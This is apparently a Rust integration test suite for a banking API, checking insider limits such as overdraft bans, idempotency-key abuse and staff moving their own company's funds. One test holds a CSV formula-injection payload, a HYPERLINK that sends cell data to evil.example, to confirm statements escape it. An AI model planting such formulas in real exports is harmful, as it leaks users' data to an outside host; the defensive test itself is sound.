//! Insider limits: what no single member of staff (or service) may do with a client's money.

mod common;

use common::start;
use imkon_auth::Role;
use imkon_platform::id::new_id;
use imkon_platform::testing::assert_problem;
use serde_json::json;
use sqlx::PgPool;

#[sqlx::test(migrations = false)]
async fn an_admin_cannot_open_an_overdraft_on_a_client_account(pool: PgPool) {
    let harness = start(pool).await;
    let client = new_id();

    let response = harness
        .post(
            "/v1/accounts",
            &harness.staff_token(Role::Admin),
            Some(&new_id().to_string()),
            &json!({"owner": {"kind": "client", "client_id": client}, "kind": "client_current",
                    "currency": "UZS", "allow_negative": true}),
        )
        .await;

    let problem = assert_problem(response, &[422], Some("validation_failed")).await;
    assert_eq!(problem["errors"][0]["field"], "allow_negative");
    assert_eq!(
        problem["errors"][0]["code"],
        "overdraft_for_bank_accounts_only"
    );
    let opened: i64 = sqlx::query_scalar("select count(*) from account where owner_client_id = $1")
        .bind(client)
        .fetch_one(&harness.pool)
        .await
        .unwrap();
    assert_eq!(opened, 0);
}

#[sqlx::test(migrations = false)]
async fn the_database_refuses_a_client_account_that_may_go_below_zero(pool: PgPool) {
    let harness = start(pool).await;
    let number = harness.open_client_current(new_id()).await;

    let refused = sqlx::query("update account set allow_negative = true where number = $1")
        .bind(&number)
        .execute(&harness.pool)
        .await;

    let error = refused.expect_err("the check constraint refuses it");
    assert!(
        error
            .to_string()
            .contains("account_overdraft_only_for_the_bank"),
        "{error}"
    );
}

#[sqlx::test(migrations = false)]
async fn a_statement_csv_shows_a_reference_that_starts_a_formula_as_text(pool: PgPool) {
    let harness = start(pool).await;
    let client_id = new_id();
    let settlement = harness.open_settlement().await;
    let account = harness.open_client_current(client_id).await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Refund\")";
    let mut transfer = common::two_legs(&settlement, &account, "5.00");
    transfer["reference"] = json!(formula);
    let paid = harness
        .post(
            "/v1/transfers",
            &harness.service_token(),
            Some(&new_id().to_string()),
            &transfer,
        )
        .await;
    assert_eq!(paid.status(), 201, "{}", paid.text().await.unwrap());

    let response = harness
        .get(
            &format!("/v1/accounts/{account}/statement.csv"),
            &harness.founder_token(client_id),
        )
        .await;

    assert_eq!(response.status(), 200);
    let body = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let references: Vec<String> = reader
        .records()
        .map(|row| row.unwrap()[3].to_owned())
        .collect();
    assert!(
        references.contains(&format!("'{formula}")),
        "the reference is text: {body}"
    );
    assert!(
        !references.iter().any(|cell| cell.starts_with('=')),
        "{body}"
    );
}

#[sqlx::test(migrations = false)]
async fn a_key_a_member_of_staff_used_first_does_not_claim_a_services_transfer(pool: PgPool) {
    let harness = start(pool).await;
    let settlement = harness.open_settlement().await;
    let founder = harness.open_client_current(new_id()).await;
    let decoy = harness.open_client_current(new_id()).await;
    // A key the disbursement service derives from a tranche: predictable to staff.
    let key = format!("tranche:{}:disburse", new_id());
    let staff = harness
        .post(
            "/v1/transfers",
            &harness.staff_token(Role::Finance),
            Some(&key),
            &common::two_legs(&settlement, &decoy, "1.00"),
        )
        .await;
    assert_eq!(staff.status(), 201, "{}", staff.text().await.unwrap());

    let service = harness
        .transfer(&key, &settlement, &founder, "100.00")
        .await;

    assert_eq!(
        service.status(),
        201,
        "the service's payout is booked: {}",
        service.text().await.unwrap()
    );
    let booked: i64 = sqlx::query_scalar(
        "select count(*) from entry e join account a on a.id = e.account_id where a.number = $1",
    )
    .bind(&founder)
    .fetch_one(&harness.pool)
    .await
    .unwrap();
    assert_eq!(booked, 1, "the founder was paid");
}

#[sqlx::test(migrations = false)]
async fn finance_staff_who_are_a_client_cannot_move_their_own_companys_money(pool: PgPool) {
    let harness = start(pool).await;
    let settlement = harness.open_settlement().await;
    let client_id = new_id();
    let own = harness.open_client_current(client_id).await;
    let insider = harness.token_for(
        &imkon_auth::Principal::user(new_id(), [Role::Finance], Some(client_id), None).unwrap(),
    );

    let response = harness
        .post(
            "/v1/transfers",
            &insider,
            Some(&new_id().to_string()),
            &common::two_legs(&settlement, &own, "1000.00"),
        )
        .await;

    assert_problem(response, &[403], Some("own_account")).await;
    assert_eq!(harness.account(&own).await["posted_balance"], "0.00");
}
